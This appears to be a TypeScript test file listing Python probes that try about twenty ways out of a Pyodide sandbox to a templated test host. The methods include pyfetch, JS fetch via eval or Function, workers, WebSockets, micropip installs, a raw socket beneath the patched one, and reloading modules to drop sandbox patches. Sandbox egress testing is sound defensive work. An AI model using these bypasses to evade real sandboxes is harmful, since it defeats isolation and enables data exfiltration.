// Ways to the network that Python code takes, by library and by hand.

import { type Probe, python } from "../probe";

const net = (title: string, code: string, rest = {}): Probe => python("network", title, code, rest);

/** In plain Pyodide a socket becomes a WebSocket to the name that was looked up; the name carries the secret then. */
/** Raw sockets of plain Pyodide become WebSockets, which take a moment. */
const LINGER = "\nimport asyncio\nawait asyncio.sleep(.3)";

export const NETWORK_PYTHON: Probe[] = [
  net("pyodide.http.pyfetch", "from pyodide.http import pyfetch\nawait pyfetch('{{http}}/{{label}}')"),
  net("pyodide.http.open_url", "from pyodide.http import open_url\nopen_url('{{http}}/{{label}}').read()"),
  net("pyodide.http.pyxhr", "from pyodide.http import pyxhr\npyxhr.get('{{http}}/{{label}}')"),
  net("js.fetch", "import js\nawait js.fetch('{{http}}/{{label}}')"),
  net(
    "js.XMLHttpRequest",
    "from js import XMLHttpRequest\nx = XMLHttpRequest.new()\nx.open('GET', '{{http}}/{{label}}', False)\nx.send()",
  ),
  net("js.WebSocket", `from js import WebSocket\nWebSocket.new('{{ws}}/{{label}}')${LINGER}`),
  net("js.EventSource", `from js import EventSource\nEventSource.new('{{http}}/{{label}}')${LINGER}`),
  net("js.importScripts", "import js\njs.importScripts('{{http}}/{{label}}.js')", {
    // Plain Pyodide runs in a module worker, which has no importScripts but import().
    control: "import js\nawait js.eval(\"import('{{http}}/{{label}}.js')\")",
  }),
  net(
    "a worker made from Python",
    `import js\nfrom pyodide.ffi import to_js\nb = js.Blob.new(to_js(["fetch('{{http}}/{{label}}')"]))\njs.Worker.new(js.URL.createObjectURL(b))${LINGER}`,
  ),
  net("run_js", "from pyodide.code import run_js\nawait run_js(\"fetch('{{http}}/{{label}}')\")"),
  net("js.eval", "import js\nawait js.eval(\"fetch('{{http}}/{{label}}')\")"),
  net("js.Function", "import js\nawait js.Function.new(\"return fetch('{{http}}/{{label}}')\")()"),
  net("js.setTimeout with text", `import js\njs.setTimeout("fetch('{{http}}/{{label}}')", 0)${LINGER}`),
  net(
    "loadPackage of an address",
    "import pyodide_js\nawait pyodide_js.loadPackage('{{http}}/{{label}}-1.0-py3-none-any.whl')",
  ),
  net("micropip of an address", "import micropip\nawait micropip.install('{{http}}/{{label}}-1.0-py3-none-any.whl')", {
    packages: ["micropip"],
  }),
  net(
    "micropip with an index of its own",
    "import micropip\nawait micropip.install('{{label}}', index_urls='{{http}}/{package_name}/json')",
    { packages: ["micropip"] },
  ),
  net("pandas.read_csv of an address", "import pandas as pd\npd.read_csv('http://{{dns}}:{{port}}/x.csv')", {
    packages: ["pandas"],
  }),
  net("urllib.request", "import urllib.request\nurllib.request.urlopen('http://{{dns}}:{{port}}/', timeout=2).read()"),
  net(
    "http.client",
    "import http.client\nc = http.client.HTTPConnection('{{dns}}', {{port}}, timeout=2)\nc.request('GET', '/{{label}}')\nc.getresponse().read()",
  ),
  net(
    "a raw socket below the patched one",
    `import _socket\nplace = _socket.getaddrinfo('{{dns}}', {{port}})[0][4]\ns = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)\ns.connect(place)\ns.send(b'GET /{{label}} HTTP/1.0')${LINGER}`,
  ),
  net(
    "modules loaded afresh, without the sandbox's patches",
    "import sys, importlib\nfor n in [n for n in sys.modules if n.startswith('pyodide.http')]: del sys.modules[n]\nimport pyodide.http._pyfetch as h\nimportlib.reload(h)\nawait h.pyfetch('{{http}}/{{label}}')",
  ),
];
